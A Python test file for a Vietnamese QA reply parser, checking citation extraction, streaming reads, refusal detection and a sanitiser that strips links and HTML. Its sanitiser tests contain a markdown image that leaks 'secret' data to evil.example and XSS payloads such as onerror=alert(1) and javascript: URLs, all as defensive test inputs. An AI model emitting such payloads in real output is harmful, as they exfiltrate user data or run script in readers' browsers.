"""A reply, cut into sentences as it comes in, with nothing in it that could be followed."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as some

from qa.answer.reply import marked, plain, read, refuses

REPLY = (
    "<think>Đoạn 1 nói về [9].</think>Ông Hùng tái đắc cử Bí thư [1], với 99% số phiếu. [2][1]\n"
    "- Ban Thường vụ gồm TS. Lê An và bà Thủy [Đoạn 3; 4].\n* Cầu dài 1.200,5 m 【2】\nHết"
)


def test_sentences_come_with_the_numbers_they_name() -> None:
    assert [(one.text, one.numbers, one.new_line) for one in read(REPLY, whole=True)] == [
        ("Ông Hùng tái đắc cử Bí thư, với 99% số phiếu.", (1, 2), False),
        ("- Ban Thường vụ gồm TS. Lê An và bà Thủy.", (3, 4), True),
        ("- Cầu dài 1.200,5 m", (2,), True),
        ("Hết", (), True),
    ]


@pytest.mark.parametrize("end", range(len(REPLY)))
def test_what_was_read_of_a_reply_stays_as_it_grows(end: int) -> None:
    part = read(REPLY[:end], whole=False)
    assert part == read(REPLY, whole=True)[: len(part)]


@given(some.text(some.sampled_from("aâ .[]1()!<>*\n/:h"), max_size=60))
def test_any_reply_can_be_read(reply: str) -> None:
    for one in read(reply, whole=True):
        assert one.text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Xem ![ảnh](http://evil.example/?q=bí mật) cầu.", "Xem cầu."),
        ("Xem ![ảnh][1] và [bài này](https://evil.example 'a').", "Xem và bài này."),
        ("Ông <b>Hùng</b> <img src=x onerror=alert(1)>trúng cử.", "Ông Hùng trúng cử."),
        ("Ông Hùng <img src=http://evil.example", "Ông Hùng"),
        ("Tại <https://evil.example> hay www.evil.example/a và javascript:alert(1)", "Tại hay và"),
        ("**Trần Mạnh Hùng** là `Bí thư`.", "Trần Mạnh Hùng là Bí thư."),
        ("## Kết quả", "Kết quả"),
        ("• Bà Thủy", "- Bà Thủy"),
    ],
)
def test_nothing_in_a_reply_can_be_followed(written: str, shown: str) -> None:
    assert plain(written) == shown


def test_marks_stand_before_the_stop() -> None:
    assert marked("Đạt hơn 99%.", [1, 2]) == "Đạt hơn 99% [1][2]."
    assert marked("Gồm", [3]) == "Gồm [3]"


def test_a_refusal_is_known_by_its_words() -> None:
    assert refuses("Không tìm thấy trong các bài báo.")
    assert not refuses("Ông Hùng được bầu làm Bí thư.")
